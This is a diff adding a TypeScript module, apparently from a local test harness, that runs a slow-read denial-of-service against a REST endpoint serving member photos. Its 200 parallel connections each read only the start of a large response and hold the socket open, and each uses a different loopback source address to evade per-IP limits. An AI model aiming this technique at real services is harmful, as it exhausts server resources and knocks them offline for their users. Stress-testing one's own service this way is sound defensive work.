@@ -1,0 +1,45 @@
+import { once } from 'node:events';
+import { connect } from 'node:net';
+import { setTimeout as pause } from 'node:timers/promises';
+import { type Answer, tally } from './ask.ts';
+import { approach, type Door, type Target } from './target.ts';
+
+const path = '/rest/v1/members?select=image_url';
+
+/** Answers of seven megabytes, the own photo, whose beginning alone is read; begun again when they are cut off. */
+export async function unreadPhotos({ door, member }: Target, signal: AbortSignal): Promise<string> {
+  const answers: Answer[] = [];
+  const readers = Array.from({ length: 200 }, async (_, index) => {
+    while (!signal.aborted) {
+      answers.push({ status: await begin(door, `127.37.0.${1 + index}`, member, signal), ms: 0, cookie: '', text: '' });
+      await pause(100);
+    }
+  });
+  await Promise.all(readers);
+  return tally(answers);
+}
+
+/** Asks, reads the first piece of the answer, and nothing more until the connection is ended. Answers the status. */
+async function begin(door: Door, from: string, token: string, signal: AbortSignal): Promise<number> {
+  const { localAddress, headers } = approach(door, from);
+  const socket = connect({ port: door.port, host: '127.0.0.1', localAddress });
+  socket.on('error', () => {});
+  const ending = () => socket.destroy();
+  signal.addEventListener('abort', ending, { once: true });
+  const head = { Host: 'localhost', Authorization: `Bearer ${token}`, ...headers };
+  const lines = Object.entries(head).map(([name, value]) => `${name}: ${value}\r\n`);
+  socket.write(`GET ${path} HTTP/1.1\r\n${lines.join('')}\r\n`);
+  if (signal.aborted) ending();
+  const closed = once(socket, 'close').catch(() => {});
+  const [first = ''] = (await Promise.race([once(socket, 'data'), closed]).catch(() => [])) ?? [];
+  const status = Number(/^HTTP\/1\.1 (\d+)/.exec(String(first))?.[1] ?? 0);
+  if (status === 200) {
+    socket.pause();
+    const probe = setInterval(() => socket.write('\r\n'), 1_000);
+    if (!socket.closed) await closed;
+    clearInterval(probe);
+  }
+  socket.destroy();
+  signal.removeEventListener('abort', ending);
+  return status;
+}
